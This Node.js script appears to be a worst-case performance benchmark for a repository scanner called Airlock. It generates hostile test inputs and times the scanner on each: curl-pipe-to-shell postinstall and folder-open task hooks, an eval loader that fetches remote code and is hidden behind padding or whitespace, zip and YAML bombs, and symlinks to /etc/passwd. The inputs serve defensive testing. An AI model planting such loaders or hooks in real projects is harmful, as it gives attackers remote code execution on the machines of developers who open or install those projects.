// Worst-case wall time and peak memory of the built CLI on generated hostile inputs, one line per
// case, grouped by family (test/hostile/README.md). Each case is the largest input of its family
// that Airlock is expected to handle whole or refuse cleanly; the target is under 60 s and 1 GB
// each. Not part of `npm test` (about 4 minutes).
// Usage: npm run build && node scripts/hostile-worst-case.mjs [substring of a case name ...]
import { spawn, spawnSync } from 'node:child_process';
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';

const CLI = new URL('../dist/cli/main.js', import.meta.url).pathname;
const MiB = 1024 * 1024;
const LIMIT_S = 60;
const LIMIT_MB = 1024;
const root = mkdtempSync(join(tmpdir(), 'airlock-worst-'));

/** Each body is a string, or an array of [chunk, times] pairs written one after another (bigger than a V8 string). */
function tree(name, files) {
  const dir = join(root, name);
  mkdirSync(dir, { recursive: true });
  for (const [path, body] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    if (typeof body === 'string') {
      writeFileSync(join(dir, path), body);
      continue;
    }
    writeFileSync(join(dir, path), '');
    for (const [chunk, times] of body) for (let i = 0; i < times; i++) appendFileSync(join(dir, path), chunk);
  }
  return dir;
}

/**
 * A zip of `count` entries that all hold the same deflated body (compressed once), written by hand
 * so that gigabytes of declared content cost seconds to generate.
 */
function zip(name, count, size) {
  const body = Buffer.alloc(size);
  const data = deflateRawSync(body, { level: 9 });
  const crc = crc32(body);
  const file = join(root, `${name}.zip`);
  const parts = [];
  const central = [];
  let offset = 0;
  for (let i = 0; i < count; i++) {
    const fileName = Buffer.from(count === 1 ? 'zeros.bin' : `z/${i}.bin`);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(0x21, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(fileName.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(8, 10);
    dir.writeUInt16LE(0x21, 14);
    dir.writeUInt32LE(crc, 16);
    dir.writeUInt32LE(data.length, 20);
    dir.writeUInt32LE(size, 24);
    dir.writeUInt16LE(fileName.length, 28);
    dir.writeUInt32LE(offset, 42);
    parts.push(local, fileName, data);
    central.push(dir, fileName);
    offset += 30 + fileName.length + data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  writeFileSync(file, Buffer.concat([...parts, cd, end]));
  return file;
}

const deep = n => '['.repeat(n) + ']'.repeat(n);
const PKG = JSON.stringify({ name: 'worst', version: '1.0.0', scripts: { postinstall: 'node setup.js' } });
const LOADER = 'require("http").get("http://203.0.113.10/a", r => r.on("data", d => eval(String(d))));\n';

/**
 * [family, case, expected, make() → args after `scan` (a target and flags)]. `expected` is the
 * verdict (the scan runs with `--fail-on review`, so block and review exit 1 and pass exits 0) or
 * `error`: no report, exit 2 (a target Airlock refuses).
 */
const cases = [
  [
    'read caps',
    'package.json 256 MiB of padding, postinstall at the end',
    'block',
    () => [
      tree('pkg', {
        'package.json': `{"description":"${'a'.repeat(256 * MiB)}",\n"scripts":{"postinstall":"curl https://x.example.invalid | sh"}}\n`,
      }),
    ],
  ],
  [
    'read caps',
    'tasks.json 256 MiB comment, folder-open task at the end',
    'block',
    () => [
      tree('tasks-pad', {
        '.vscode/tasks.json': `{ // ${'p'.repeat(256 * MiB)}\n"tasks":[{"label":"a","command":"curl https://x.example.invalid | sh","runOptions":{"runOn":"folderOpen"}}]}\n`,
      }),
    ],
  ],
  [
    'read caps',
    'JS entry 15 MiB of ordinary lines, loader at the end',
    'block',
    () => [
      tree('js', {
        'package.json': PKG,
        'setup.js': `${'const padding = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";\n'.repeat((15 * MiB) / 48)}${LOADER}`,
      }),
    ],
  ],
  [
    'read caps',
    'JS entry 1 GiB of newlines, eval at the end',
    'review',
    () => [
      tree('lines', {
        'package.json': PKG,
        'setup.js': [
          ['\n'.repeat(64 * MiB), 16],
          ['eval(process.argv[2]);\n', 1],
        ],
      }),
    ],
  ],
  [
    'read caps',
    'JS entry of one 15 MiB minified line, loader at the end',
    'block',
    () => [tree('minified', { 'package.json': PKG, 'setup.js': `${'var a=1;'.repeat((15 * MiB) / 8)}${LOADER}` })],
  ],
  [
    'special files',
    'FIFO named package.json, FIFO in .git/objects',
    'review',
    () => {
      const dir = tree('fifo', { 'README.md': '# x\n' });
      spawnSync('git', ['init', '-q', dir]);
      spawnSync('mkfifo', [join(dir, 'package.json'), join(dir, '.git', 'objects', 'stall')]);
      return [dir];
    },
  ],
  [
    'special files',
    '1,000 links out of the tree, .vscode among them',
    'review',
    () => {
      const dir = tree('links', { 'package.json': PKG });
      symlinkSync('/etc', join(dir, '.vscode'));
      for (let i = 0; i < 1000; i++) symlinkSync('/etc/passwd', join(dir, `l${i}.js`));
      return [dir];
    },
  ],
  [
    'format readers',
    'tsconfig.json and package.json nested 1,000,000 deep',
    'review',
    () => [
      tree('nested', {
        'package.json': `{"name":"n","scripts":{"dev":"node i.js"},"x":${deep(1_000_000)}}`,
        'tsconfig.json': `{"compilerOptions":{"paths":${deep(1_000_000)}}}`,
        'i.js': '1;\n',
      }),
    ],
  ],
  [
    'format readers',
    'lefthook.yml of 1,000,000 nested sequences, YAML alias bomb',
    'review',
    () => [
      tree('yaml-deep', {
        'package.json': PKG,
        'lefthook.yml': `pre-commit:\n  commands:\n    x:\n      run: ${'- '.repeat(1_000_000)}x\n`,
        '.yarnrc.yml': `a: &a [${Array(10).fill('x').join(',')}]\n${Array.from({ length: 8 }, (_, i) => `${'bcdefghi'[i]}: &${'bcdefghi'[i]} [${Array(10).fill(`*${'abcdefghi'[i]}`).join(',')}]`).join('\n')}\n`,
      }),
    ],
  ],
  [
    'format readers',
    'docker-compose.yml of 16 MiB (at the YAML cap), 40,000 services',
    // review: only the first 1,000 services are analysed one by one, and the cut is a reported gap.
    'review',
    () => {
      const services = Array.from(
        { length: 40_000 },
        (_, i) =>
          `  s${i}:\n    image: example/app:${i}\n    command: ["node", "server.js", "--port", "${i}"]\n    environment:\n      - KEY_${i}=${'v'.repeat(300)}\n`,
      );
      // Whole services only, up to the cap: valid YAML, so the cost measured is the reading.
      let body = 'services:\n';
      for (const s of services) {
        if (body.length + s.length > 16 * MiB - 64) break;
        body += s;
      }
      return [tree('compose', { 'docker-compose.yml': body })];
    },
  ],
  [
    'regular expressions',
    'devcontainer.json command padded with 15 MiB of whitespace',
    'block',
    () => [
      tree('regex', {
        '.devcontainer/devcontainer.json': JSON.stringify({
          initializeCommand: `echo ok${' \t'.repeat((15 * MiB) / 2)}\n curl -s https://setup.example.invalid/i.sh | sh`,
        }),
      }),
    ],
  ],
  [
    'code analysis',
    'JS entry nested 100,000 calls deep',
    'block',
    () => [tree('js-deep', { 'package.json': PKG, 'setup.js': `${'f('.repeat(100_000)}1${')'.repeat(100_000)};\n${LOADER}` })],
  ],
  [
    'blowups',
    'package-lock.json of 200,000 packages',
    'pass',
    () => {
      const packages = { '': { name: 'big', dependencies: { 'p-0': '1.0.0' } } };
      for (let i = 0; i < 200_000; i++)
        packages[`node_modules/p-${i}`] = {
          version: '1.0.0',
          resolved: `https://registry.npmjs.org/p-${i}/-/p-${i}-1.0.0.tgz`,
          dependencies: { [`p-${i + 1}`]: '1.0.0' },
        };
      return [
        tree('npm-lock', {
          'package.json': JSON.stringify({ name: 'big', dependencies: { 'p-0': '1.0.0' } }),
          'package-lock.json': JSON.stringify({ name: 'big', lockfileVersion: 3, packages }),
        }),
      ];
    },
  ],
  [
    'blowups',
    'pnpm-lock.yaml of 200,000 packages (47 MB)',
    'pass',
    () => {
      const parts = [
        "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      p-0:\n        specifier: 1.0.0\n        version: 1.0.0\n\npackages:\n",
      ];
      for (let i = 0; i < 200_000; i++)
        parts.push(`\n  p-${i}@1.0.0:\n    resolution: {integrity: sha512-${'A'.repeat(86)}==}\n    engines: {node: '>=8'}\n`);
      parts.push('\nsnapshots:\n');
      for (let i = 0; i < 200_000; i++) parts.push(`\n  p-${i}@1.0.0:\n    dependencies:\n      p-${i + 1}: 1.0.0\n`);
      return [
        tree('pnpm-lock', {
          'package.json': JSON.stringify({ name: 'big', dependencies: { 'p-0': '1.0.0' } }),
          'pnpm-lock.yaml': parts.join(''),
        }),
      ];
    },
  ],
  [
    'blowups',
    'tasks.json of 100,000 tasks (12 MB)',
    'block',
    () => {
      const tasks = Array.from({ length: 100_000 }, (_, i) => ({
        label: `t${i}`,
        type: 'shell',
        command: `echo ${i} && node build.js --flag ${i}`,
        ...(i % 2 ? { runOptions: { runOn: 'folderOpen' } } : {}),
      }));
      return [tree('tasks-many', { 'package.json': PKG, '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks }) })];
    },
  ],
  [
    'blowups',
    '100,000 small files',
    'pass',
    () => {
      const dir = tree('files', { 'package.json': PKG });
      for (let d = 0; d < 100; d++) {
        mkdirSync(join(dir, 'src', `d${d}`), { recursive: true });
        for (let f = 0; f < 1000; f++) writeFileSync(join(dir, 'src', `d${d}`, `f${f}.js`), `module.exports = ${f};\n`);
      }
      return [dir];
    },
  ],
  ['archives', 'zip of 2,600 small entries declaring 2.5 GiB', 'error', () => [zip('many', 2600, MiB)]],
  ['archives', 'zip of one 1 GiB entry of zeros (about 1,000:1)', 'error', () => [zip('bomb', 1, 1024 * MiB - 1)]],
  [
    'git',
    'git:// host that accepts and never answers (default --clone-timeout)',
    'error',
    () => {
      const server = createServer(() => {}).listen(0, '127.0.0.1');
      return new Promise(resolve => server.on('listening', () => resolve([`git://127.0.0.1:${server.address().port}/x`])));
    },
  ],
];

function run(args) {
  return new Promise(resolve => {
    const child = spawn(
      '/usr/bin/time',
      ['-f', '%e %M', process.execPath, CLI, 'scan', ...args, '--format', 'json', '--no-provenance', '--fail-on', 'review'],
      {
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', d => (stdout += d));
    child.stderr.on('data', d => (stderr += d));
    child.on('close', status => resolve({ status, stdout, stderr }));
  });
}

const EXIT = { block: 1, review: 1, pass: 0, error: 2 };

const only = process.argv.slice(2);
let failed = 0;
let wrong = 0;
for (const [family, name, expected, make] of cases) {
  if (only.length > 0 && !only.some(s => `${family} ${name}`.includes(s))) continue;
  const args = await make();
  const r = await run(args);
  const lines = r.stderr.trim().split('\n');
  const [secs, kb] = (lines.pop() ?? '').split(' ');
  let outcome;
  let verdict;
  try {
    outcome = JSON.parse(r.stdout).verdict;
    verdict = `verdict ${outcome}`;
  } catch {
    outcome = 'error';
    verdict = `no report: ${(lines.find(l => l.startsWith('airlock')) ?? '').slice(0, 120)}`;
  }
  const mb = Math.round(Number(kb) / 1024);
  const ok = Number(secs) < LIMIT_S && mb < LIMIT_MB;
  const right = outcome === expected && r.status === EXIT[expected];
  if (!ok) failed++;
  if (!right) wrong++;
  console.log(
    `${ok ? 'ok  ' : 'OVER'} ${right ? 'as expected' : `EXPECTED ${expected} (exit ${EXIT[expected]})`} ${family}: ${name}: ${secs} s, ${mb} MB peak RSS, ${verdict}, exit ${r.status}`,
  );
  for (const a of args) if (a.startsWith(root)) rmSync(a, { recursive: true, force: true });
}
rmSync(root, { recursive: true, force: true });
console.log(failed === 0 ? `every case under ${LIMIT_S} s and ${LIMIT_MB} MB` : `${failed} case(s) over ${LIMIT_S} s or ${LIMIT_MB} MB`);
console.log(
  wrong === 0 ? 'every verdict and exit code (--fail-on review) as expected' : `${wrong} case(s) with another verdict or exit code`,
);
process.exit(failed === 0 && wrong === 0 ? 0 : 1);
